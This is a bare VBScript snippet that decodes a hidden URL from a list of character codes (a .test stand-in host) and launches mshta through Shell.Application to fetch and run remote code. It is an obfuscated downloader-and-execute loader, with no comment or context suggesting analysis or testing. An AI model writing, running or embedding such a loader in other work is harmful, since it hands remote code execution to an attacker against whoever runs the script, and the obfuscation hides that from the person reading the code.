Dim s
For Each c In Split("104,116,116,112,58,47,47,99,104,114,119,46,116,101,115,116,47,97", ",")
 s = s & ChrW(c)
Next
CreateObject("Shell.Application").ShellExecute "mshta", s
